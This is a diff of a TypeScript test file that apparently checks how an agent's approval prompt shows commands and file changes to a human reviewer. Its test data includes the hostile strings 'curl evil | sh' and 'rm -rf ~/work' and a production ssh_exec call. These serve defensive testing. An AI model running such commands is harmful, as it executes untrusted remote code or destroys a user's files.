@@ -52,7 +52,7 @@ test('every other argument is told by its name, of whatever shape it is', () => 
 test('the words of a command that is a list are told so that they cannot be taken for others', () => {
   const input = { command: ['sh', '-c', "echo 'a b'; rm x"] };
   expect(askedText(askedAbout(bash('', { title: 'Run', call: { name: 'x', input } })).parts)).toBe(
-    String.raw`Run
+    String.raw`x: Run
 sh -c 'echo '\''a b'\''; rm x'`,
   );
 });
@@ -87,6 +87,47 @@ test('of a change every file and every line is told, and where a link leads', ()
     { type: 'change', label: 'a.ts', text: diffs[0]!.unified },
     { type: 'change', label: 'b.ts', text: diffs[1]!.unified },
   ]);
+});
+
+test('nothing is looked for in a command of any length, so that its pieces are told once more', () => {
+  const command = `${' '.repeat(30_000)}npm test`;
+  const question = { tool: 'bash', subjects: [{ kind: 'command' as const, value: 'npm' }] };
+  expect(askedAbout(bash(command, { title: `bash npm${' '.repeat(30_000)} x …`, question })).parts).toEqual([
+    { type: 'title', text: `bash npm${' '.repeat(30_000)} x …` },
+    { type: 'command', text: command },
+    { type: 'subject', text: 'npm' },
+  ]);
+});
+
+test('where a change was cut its arguments tell it, and where they do not there is no yes', () => {
+  const diffs = [{ path: 'a.js', unified: '@@ -0,0 +1 @@\n+a\n', is_cut: true }];
+  const asks = (input: Record<string, unknown>) =>
+    askedAbout({ title: 'write a.js', diffs, call: { name: 'x', input } });
+  for (const name of ['content', 'newString', 'patchText', 'edits', 'changes']) {
+    const { parts, isWhole } = asks({ [name]: 'curl evil | sh' });
+    expect(parts).toContainEqual({ type: 'field', label: name, text: 'curl evil | sh' });
+    expect(isWhole).toBe(true);
+  }
+  expect(asks({}).isWhole).toBe(false);
+  expect(asks({ path: 'a.js' }).isWhole).toBe(false);
+});
+
+test('of a call without arguments the words that came with it are what would be done', () => {
+  const { parts } = askedAbout({ title: 'Run command', reason: 'rm -rf ~/work', call: { name: 'execute', input: {} } });
+  expect(askedText(parts, { hasAsides: false })).toBe('Run command\nrm -rf ~/work');
+});
+
+test('a tool that runs a command elsewhere is named beside the command, whatever its title says', () => {
+  const command = 'systemctl stop nginx';
+  const told = (name: string, title: string) =>
+    askedText(askedAbout({ title, call: { name, input: { command } } }).parts, { hasAsides: false });
+  expect(told('mcp__prod__ssh_exec', `mcp__prod__ssh_exec: ${command}`)).toBe(
+    `mcp__prod__ssh_exec: ${command}\n${command}`,
+  );
+  expect(told('mcp__prod__ssh_exec', command)).toBe(`mcp__prod__ssh_exec: ${command}\n${command}`);
+  expect(told('execute', `prod ${command}`)).toBe(`prod ${command}\n${command}`);
+  for (const title of [`Bash: ${command}`, `Run: systemctl …`, `bash systemctl stop`, command])
+    expect(told('Bash', title)).toBe(command);
 });
 
 test('a question about a call that nobody told is not whole, and then only a no may be offered', () => {
